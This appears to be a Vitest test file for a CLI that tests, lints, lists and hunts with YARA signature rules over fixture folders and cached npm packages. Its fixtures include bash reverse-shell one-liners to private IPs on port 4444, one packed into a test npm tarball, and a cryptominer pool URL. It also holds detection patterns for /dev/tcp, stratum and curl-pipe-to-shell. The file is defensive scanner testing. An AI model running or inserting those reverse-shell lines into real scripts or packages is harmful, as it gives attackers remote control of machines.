import { rm } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, tempDir, writeTree } from '../../test/cli-helpers.js';

function rule(id: string, strings: string, extra = ''): string {
  return `rule ${id.replace(/-/g, '_')} {\n  meta:\n    id = "${id}"\n    severity = "high"\n    kind = "threat"\n    description = "Test rule ${id}."\n    reference = ""\n    author = "tests"\n    version = 1\n  strings:\n    ${strings}\n  condition:\n    ${extra}any of them\n}\n`;
}

let work: string;
let good: string;
let failing: string;
let broken: string;
let target: string;

beforeAll(async () => {
  work = await tempDir('sigcli');
  good = await writeTree(path.join(work, 'good'), {
    'shells/dev-tcp.yar': rule('dev-tcp', '$a = "/dev/tcp/"'),
    'shells/samples/dev-tcp/match/one.sh': 'bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n',
    'shells/samples/dev-tcp/nomatch/one.sh': 'echo hello\n',
  });
  failing = await writeTree(path.join(work, 'failing'), {
    'shells/dev-tcp.yar': rule('dev-tcp', '$a = "/dev/tcp/"'),
    'shells/samples/dev-tcp/match/one.sh': 'bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n',
    'shells/samples/dev-tcp/nomatch/one.sh': 'echo hello\n',
    'miners/stratum-url.yar': rule('stratum-url', '$a = "stratum+tcp://"'),
    'miners/samples/stratum-url/match/pool.json': '{"url": "stratum+ssl://pool.example:3333"}\n',
    'miners/samples/stratum-url/nomatch/a.txt': 'nothing\n',
  });
  broken = await writeTree(path.join(work, 'broken'), {
    'shells/dev-tcp.yar': rule('dev-tcp', '$a = "/dev/tcp/"'),
    'shells/samples/dev-tcp/match/one.sh': '/dev/tcp/1.2.3.4/1\n',
    'shells/samples/dev-tcp/nomatch/one.sh': 'echo\n',
    'bad/not-compiling.yar': rule('not-compiling', '$a = "abcdefg"', 'undefined_identifier and '),
    'bad/samples/not-compiling/match/a.txt': 'abcdefg\n',
    'bad/samples/not-compiling/nomatch/a.txt': 'x\n',
    'lint/greedy.yar': rule('greedy', '$a = /curl .* sh/'),
  });
  target = await writeTree(path.join(work, 'target'), {
    'package.json': '{"name":"t","version":"1.0.0"}',
    'scripts/rev.sh': '#!/bin/sh\nbash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n',
    'index.js': 'console.log(1)\n',
  });
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

describe('mcp-assay signatures', () => {
  it('test: passes a good library on the wasm engine', async () => {
    const r = await runCli(['signatures', 'test', good, '--yara-engine', 'wasm']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/dev-tcp\s+wasm\s+1\/1\s+1\/1\s+\d+\s+ok/);
  });

  it('test: exits 1 and names the rule that misses its sample', async () => {
    const r = await runCli(['signatures', 'test', failing]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/stratum-url\s+wasm\s+0\/1\s+1\/1\s+\d+\s+FAIL missed samples\/stratum-url\/match\/pool\.json/);
    expect(r.stdout).toMatch(/dev-tcp\s+wasm\s+1\/1\s+1\/1\s+\d+\s+ok/);
  });

  it('test: a rule that does not compile is named with file and line, and the others still run', async () => {
    const r = await runCli(['signatures', 'test', broken, '--yara-engine', 'wasm']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/not-compiling\s+wasm.*does not compile: \S*not-compiling\.yar:\d+/);
    expect(r.stdout).toMatch(/dev-tcp\s+wasm\s+1\/1\s+1\/1\s+\d+\s+ok/);
  });

  it('lint: exits 1 on an unbounded pattern and missing samples, 0 on a clean library', async () => {
    const bad = await runCli(['signatures', 'lint', broken]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(/greedy\.yar:11: greedy: \$a: unbounded pattern \.\*/);
    expect(bad.stdout).toMatch(/greedy: no sample in samples\/greedy\/match\//);
    const clean = await runCli(['signatures', 'lint', good]);
    expect(clean.code).toBe(0);
    expect(clean.stdout).toContain('1 rules, 0 problem(s)');
  });

  it('list: prints id, category, severity, kind and description, also from --signatures', async () => {
    const r = await runCli(['signatures', 'list', good, '--signatures', path.join(failing, 'miners')]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/dev-tcp\s+shells\s+high\s+threat\s+Test rule dev-tcp\./);
    expect(r.stdout).toMatch(/stratum-url\s+miners\s+high\s+threat/);
  });

  it('hunt: shows which rule matches which file, as a table and as JSON', async () => {
    const table = await runCli(['signatures', 'hunt', good, target]);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/dev-tcp\s+scripts\/rev\.sh:2:12\s+\/dev\/tcp\//);
    const json = await runCli(['signatures', 'hunt', path.join(good, 'shells', 'dev-tcp.yar'), target, '--format', 'json']);
    expect(json.code).toBe(0);
    const parsed = JSON.parse(json.stdout) as { targets: { status: string; matches: { rule: string; file: string; line: number }[] }[] };
    expect(parsed.targets[0]?.status).toBe('succeeded');
    expect(parsed.targets[0]?.matches).toEqual([expect.objectContaining({ rule: 'dev-tcp', file: 'scripts/rev.sh', line: 2 })]);
  });

  it('scan: --signatures adds a folder; an unknown engine is a usage error', async () => {
    const r = await runCli(['scan', target, '--no-store', '--format', 'json', '--signatures', good]);
    expect(r.code).toBe(0);
    const report = JSON.parse(r.stdout) as { findings: { ruleId: string; location?: { file?: string } }[]; analyzers: { id: string; status: string }[] };
    expect(report.analyzers.find((a) => a.id === 'signatures')?.status).toBe('succeeded');
    expect(report.findings.some((f) => f.ruleId === 'signatures/dev-tcp' && f.location?.file === 'scripts/rev.sh')).toBe(true);
    const bad = await runCli(['scan', target, '--no-store', '--yara-engine', 'nope']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/unknown --yara-engine "nope"/);
  });

  it('test: the project library passes on every engine present', async () => {
    const r = await runCli(['signatures', 'test'], {}, 120_000);
    expect(r.stdout).toMatch(/\d+ rules, \d engine\(s\)/);
    expect(r.code, r.stdout).toBe(0);
  });
});

describe('signatures hunt --store', () => {
  it('hunts over stored npm versions whose archives are in the cache, and says which were pruned', async () => {
    const { buildTestReport } = await import('../report/test-helpers/report-builder.js');
    const { openStore } = await import('../store/index.js');
    const { openArchiveCache } = await import('../fetch/archive-cache.js');
    const { buildPackageTarball, sha512Integrity } = await import('../fetch/test-helpers/registry-server.js');
    const dir = await tempDir('hunt-store');
    const db = path.join(dir, 'assay.db');
    const cacheDir = path.join(dir, 'cache');
    const hostile = await buildPackageTarball({ 'package.json': '{"name":"shelly","version":"1.0.0"}', 'run.sh': 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n' });
    const pruned = await buildPackageTarball({ 'package.json': '{"name":"gone","version":"2.0.0"}', 'a.sh': '/dev/tcp/1.1.1.1/1\n' });
    const store = openStore(db);
    for (const [name, version, tgz] of [['shelly', '1.0.0', hostile], ['gone', '2.0.0', pruned]] as const) {
      const report = buildTestReport({ name, version });
      store.saveReport({ ...report, target: { ...report.target, integrity: sha512Integrity(tgz) } });
    }
    store.close();
    const cache = await openArchiveCache({ dir: cacheDir });
    await cache.put(sha512Integrity(hostile), hostile);

    const r = await runCli(['signatures', 'hunt', good, '--store', '--db', db, '--cache-dir', cacheDir, '--format', 'json']);
    expect(r.code).toBe(0);
    const parsed = JSON.parse(r.stdout) as { targets: { target: string; status: string; error?: string; matches: { rule: string; file: string }[] }[] };
    const byTarget = new Map(parsed.targets.map((t) => [t.target, t]));
    expect(byTarget.get('npm:shelly@1.0.0')?.matches).toEqual([expect.objectContaining({ rule: 'dev-tcp', file: 'run.sh' })]);
    expect(byTarget.get('npm:gone@2.0.0')).toMatchObject({ status: 'skipped', matches: [] });
    expect(byTarget.get('npm:gone@2.0.0')?.error).toMatch(/not in the cache/);
  });

  it('refuses a hunt with neither targets nor --store, and a missing store', async () => {
    expect((await runCli(['signatures', 'hunt', good])).code).toBe(2);
    const r = await runCli(['signatures', 'hunt', good, '--store', '--db', path.join(work, 'nope.db')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/no store at/);
  });
});
